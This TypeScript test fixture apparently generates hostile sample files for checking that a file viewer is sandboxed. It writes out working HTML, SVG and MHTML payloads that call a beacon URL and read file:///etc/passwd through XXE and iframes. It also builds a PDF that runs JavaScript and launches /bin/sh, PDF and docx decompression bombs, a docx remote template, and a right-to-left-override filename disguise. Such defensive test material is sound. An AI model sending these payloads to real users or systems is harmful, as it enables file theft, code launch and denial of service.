import { deflateSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import { pngOf } from './png.ts';

/** Where hostile files send word to; nothing may ever arrive there. */
export type Beacon = { readonly url: string };

const markup = ({ url }: Beacon): string =>
  `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=${url}/refresh"><link rel="stylesheet" href="${url}/a.css"><base href="${url}/"><script src="${url}/a.js"></script><script>document.title='RAN';fetch('${url}/fetch')</script></head><body onload="fetch('${url}/onload')"><p>Words of a hostile page</p><img src="${url}/a.png" onerror="fetch('${url}/onerror')"><img src="file:///etc/passwd"><iframe src="file:///etc/passwd"></iframe><iframe srcdoc="<script>fetch('${url}/srcdoc')</script>"></iframe><object data="${url}/object"></object><video src="${url}/a.mp4" poster="${url}/poster.png" autoplay></video><svg onload="fetch('${url}/svg')"><image href="${url}/svg.png"/></svg><p style="background:url(${url}/style.png)">styled</p><form action="${url}"><input autofocus onfocus="fetch('${url}/focus')"></form></body></html>`;

const svg = ({ url }: Beacon): string =>
  `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "${url}/entity">]><svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${url}/svg')"><script>fetch('${url}/script')</script><image href="${url}/a.png"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${url}/frame"/></foreignObject><text>&x;&y;Words of a drawing</text></svg>`;

const mhtml = (beacon: Beacon): string =>
  `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: ${beacon.url}/page\r\n\r\n${markup(beacon)}\r\n--b--`;

/** A PDF whose opening runs a script, fetches and launches (ISO 32000-2, 12.6.4). */
function pdf({ url }: Beacon): string {
  const objects = [
    `<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("${url}/js"\\))/Next<</S/URI/URI(${url}/uri)/Next<</S/Launch/F(file:///bin/sh)>>>>>>/AcroForm<</Fields[]/XFA(${url})>>>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Resources<</Font<</F 4 0 R>>>>/Contents 5 0 R/AA<</O<</S/URI/URI(${url}/aa)>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI(${url}/link)>>>>]>>`,
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    '<</Length 57>>stream\nBT /F 18 Tf 20 100 Td (Words of a hostile PDF) Tj ET      \nendstream',
  ];
  return pdfOf(objects);
}

/** A PDF of these objects, numbered from 1; the first is its catalogue. */
function pdfOf(objects: readonly string[]): string {
  let text = '%PDF-1.7\n';
  const starts = objects.map((body, at) => {
    const start = text.length;
    text += `${at + 1} 0 obj${body}endobj\n`;
    return start;
  });
  const table = starts.map((start) => `${String(start).padStart(10, '0')} 00000 n \n`).join('');
  return `${text}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${text.length}\n%%EOF`;
}

/** A PDF of 2 KB whose one page unpacks, twice, to 512 MB of blanks. */
function pdfBomb(): string {
  const packed = deflateSync(deflateSync(Buffer.alloc(512 * 1024 * 1024, ' '))).toString('hex');
  return pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R>>',
    `<</Length ${packed.length}/Filter[/ASCIIHexDecode/FlateDecode/FlateDecode]>>stream\n${packed}\nendstream`,
  ]);
}

const TYPES =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const RELS =
  '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';

function docx({ url }: Beacon, more: Record<string, Uint8Array> = {}): Uint8Array {
  const document = `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "${url}/entity">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Words of a hostile document</w:t></w:r></w:p></w:body></w:document>`;
  const relations = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${url}/template.dotm" TargetMode="External"/></Relationships>`;
  return zipSync({
    '[Content_Types].xml': strToU8(TYPES),
    '_rels/.rels': strToU8(RELS),
    'word/document.xml': strToU8(document),
    'word/_rels/document.xml.rels': strToU8(relations),
    ...more,
  });
}

/** A docx whose document unpacks to 200 MB of zeros. */
const docxBomb = (beacon: Beacon): Uint8Array =>
  docx(beacon, { 'word/document.xml': new Uint8Array(200 * 1024 * 1024) });

/** A PNG of 30,000 × 30,000 pixels in a few hundred kilobytes. */
const hugePicture = (): Uint8Array =>
  pngOf({ width: 30_000, height: 30_000, depth: 1, colour: 0 }, deflateSync(Buffer.alloc(30_000 * 3751)));

const RTL_OVERRIDE = '\u202e';

/** Files as strangers send them, by the name they come with; each with words that show that it was read, or what is said. */
export const hostileFiles = (
  beacon: Beacon,
): readonly { readonly name: string; readonly bytes: Uint8Array; readonly says: string }[] => [
  { name: 'page.html', bytes: strToU8(markup(beacon)), says: 'Words of a hostile page' },
  { name: 'drawing.svg', bytes: strToU8(svg(beacon)), says: 'Words of a drawing' },
  { name: 'archive.mhtml', bytes: strToU8(mhtml(beacon)), says: 'Words of a hostile page' },
  { name: 'paper.pdf', bytes: strToU8(pdf(beacon)), says: 'Page 1 of 1' },
  { name: 'bomb.pdf', bytes: strToU8(pdfBomb()), says: 'Page 1 of 1' },
  { name: 'letter.docx', bytes: docx(beacon), says: 'Words of a hostile document' },
  { name: 'bomb.docx', bytes: docxBomb(beacon), says: 'unpacks to far more' },
  { name: 'huge.png', bytes: hugePicture(), says: '30000 × 30000 pixels' },
  { name: 'cut.webm', bytes: Uint8Array.from([0x1a, 0x45, 0xdf, 0xa3, 0x9f, 0x42, 0x86]), says: 'damaged' },
  { name: 'nothing.pdf', bytes: new Uint8Array(0), says: '0 bytes' },
  { name: `photo${RTL_OVERRIDE}gpj.html`, bytes: strToU8(markup(beacon)), says: 'Words of a hostile page' },
  { name: `${'long name '.repeat(30)}.txt`, bytes: strToU8('Words of a text'), says: 'Words of a text' },
];
